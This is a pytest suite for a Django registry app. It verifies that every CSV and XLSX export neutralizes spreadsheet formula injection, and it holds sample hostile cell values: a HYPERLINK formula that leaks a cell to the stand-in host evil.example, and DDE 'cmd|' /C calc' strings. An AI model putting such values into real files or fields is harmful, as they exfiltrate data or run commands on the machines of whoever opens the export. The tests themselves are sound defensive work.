"""Issue 11 §4: every CSV and XLSX export writes people's text as text. A cell beginning with
`=`, `+`, `-`, `@`, a tab or a carriage return gets a leading apostrophe in CSV and is a text
cell (with Excel's quote prefix) in XLSX; no export ever holds a formula (accounts.tabular)."""

import csv
import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts import tabular
from tests.appeals.factories import register
from tests.registry.factories import OfficialAccountFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
PAYLOADS = [FORMULA, "+7+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def no_formula_in(content: bytes) -> bool:
    """No cell of any sheet is a formula (<f>) or cached as one."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        return all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)


def xlsx_cells(content: bytes) -> dict[str, object]:
    sheet = load_workbook(io.BytesIO(content)).active
    return {c.coordinate: c for row in sheet.iter_rows() for c in row if c.value is not None}


# ------------------------------------------------------------------- the shared writer


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_csv_cell_beginning_with_a_formula_character_gets_an_apostrophe(payload):
    assert tabular.csv_text(payload) == "'" + payload


def test_numbers_and_ordinary_text_are_written_as_they_are():
    assert tabular.csv_text(-5) == "-5" and tabular.csv_text(12) == "12"
    assert tabular.csv_text("Өз ұйымы") == "Өз ұйымы"
    assert tabular.csv_text(date(2026, 1, 2)) == "2026-01-02"
    assert tabular.csv_text(None) == ""


def test_a_formula_after_a_separator_inside_a_cell_is_neutralized_too():
    """Excel in a Kazakh or Russian locale splits a comma-separated file at ";"."""
    assert tabular.csv_text("Мектеп;=1+1") == "Мектеп;'=1+1"
    assert tabular.csv_text("a,@SUM(1)") == "a,'@SUM(1)"


def test_an_xlsx_text_cell_is_never_a_formula_and_keeps_its_text():
    content = tabular.xlsx_bytes([tabular.Sheet(title="x", rows=[PAYLOADS, [1, -2, "#N/A"]])])
    assert no_formula_in(content)
    cells = xlsx_cells(content)
    for i, payload in enumerate(PAYLOADS):
        cell = cells[f"{chr(ord('A') + i)}1"]
        assert cell.data_type == "s" and cell.value.strip() == payload.strip()
        assert cell.quotePrefix
    assert cells["A2"].value == 1 and cells["B2"].value == -2
    assert cells["C2"].data_type == "s"  # not an error code


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_export():
    content = tabular.xlsx_bytes([tabular.Sheet(title="a/b", rows=[["x\x01y\x0bz"]])])
    assert xlsx_cells(content)["A1"].value == "xyz"


# ------------------------------------------------------------------- each export


@pytest.fixture
def hostile_account(cast):
    return OfficialAccountFactory(
        organization=cast.own,
        display_name=FORMULA,
        handle="@SUM(1+1)",
        url="https://t.me/formula_channel",
        normalized_url="t.me/formula_channel",
    )


def test_the_register_csv_neutralizes_an_account_name_written_as_a_formula(
    client, cast, hostile_account
):
    client.force_login(cast.charlie)
    response = client.get(reverse("registry:export", args=["csv"]))
    assert response.status_code == 200
    row = csv_rows(response)[1]
    assert "'" + FORMULA in row and "'@SUM(1+1)" in row
    assert FORMULA not in [cell for cell in row if not cell.startswith("'")]


def test_the_register_xlsx_holds_the_name_as_text_and_no_formula(client, cast, hostile_account):
    client.force_login(cast.charlie)
    response = client.get(reverse("registry:export", args=["xlsx"]))
    assert response.status_code == 200
    assert no_formula_in(response.content)
    names = {c.value: c for c in xlsx_cells(response.content).values()}
    assert names[FORMULA].data_type == "s" and names[FORMULA].quotePrefix


def test_the_register_xlsx_survives_a_control_character_in_a_name(client, cast):
    """openpyxl refused the whole file (IllegalCharacterError): a 500."""
    OfficialAccountFactory(organization=cast.own, display_name="Арна\x01\x1f")
    client.force_login(cast.charlie)
    response = client.get(reverse("registry:export", args=["xlsx"]))
    assert response.status_code == 200
    assert "Арна" in {c.value for c in xlsx_cells(response.content).values()}


def test_the_appeals_csv_neutralizes_the_authors_name_and_contacts(client, cast):
    register(cast.alice, cast.own, author_name="=cmd|' /C calc'!A0", author_contacts="+7 701 0")
    client.force_login(cast.alice)
    response = client.get(reverse("appeals:export"))
    assert response.status_code == 200
    row = csv_rows(response)[1]
    assert "'=cmd|' /C calc'!A0" in row and "'+7 701 0" in row
    assert not [cell for cell in row if cell.startswith(tabular.TRIGGERS)]


def test_the_rollup_xlsx_holds_an_organization_named_as_a_formula_as_text(client, cast):
    cast.sibling.name_kk = cast.sibling.name_ru = "=1+1"
    cast.sibling.save()
    client.force_login(cast.paula)
    response = client.get(
        reverse("reports:rollup_export", args=["xlsx"]),
        {"organization": cast.parent.pk, "period": "h1", "year": 2026},
    )
    assert response.status_code == 200
    assert no_formula_in(response.content)
    cells = [c for c in xlsx_cells(response.content).values() if c.value == "=1+1"]
    assert cells and all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_metrics_templates_come_from_the_shared_writer(client, cast, fmt):
    client.force_login(cast.alice)
    response = client.get(reverse("reports:metrics_template", args=["subscribers", fmt]))
    assert response.status_code == 200
    if fmt == "csv":
        assert csv_rows(response)[0] == ["account", "date", "subscribers"]
    else:
        assert no_formula_in(response.content)


def test_no_export_writes_csv_or_xlsx_by_hand():
    """One writer (accounts.tabular): no other module of the project writes CSV or builds an
    openpyxl Workbook."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv/", "tests/", "scripts/")) or "/migrations/" in relative:
            continue
        text = path.read_text(encoding="utf-8")
        if ("csv.writer(" in text or "Workbook()" in text) and relative != "accounts/tabular.py":
            offenders.append(relative)
    assert offenders == []
